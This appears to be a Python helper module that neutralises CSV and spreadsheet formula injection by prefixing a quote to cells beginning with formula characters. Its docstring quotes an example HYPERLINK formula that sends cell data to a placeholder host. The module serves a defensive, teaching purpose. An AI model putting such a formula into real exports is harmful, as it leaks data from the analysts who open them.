"""The one rule for text put in a spreadsheet cell (CSV or XLSX): never a formula.

A spreadsheet reads a cell that starts with = + - @ (or a tab or carriage return before
them) as a formula: `=HYPERLINK("http://x/?"&A1)` in a contact note would run on the
analyst's machine when the export is opened. OWASP's CSV injection rule: such a text gets
a single quote in front ('=HYPERLINK(...)), which the spreadsheet shows as text. Only
text passes here: numbers, dates and booleans are written as such (a negative number
stays a number), so every writer calls `cell_text` on its str values alone.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell_text(text: str) -> str:
    """`text` as a spreadsheet must store it: with a leading ' when it would be a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text
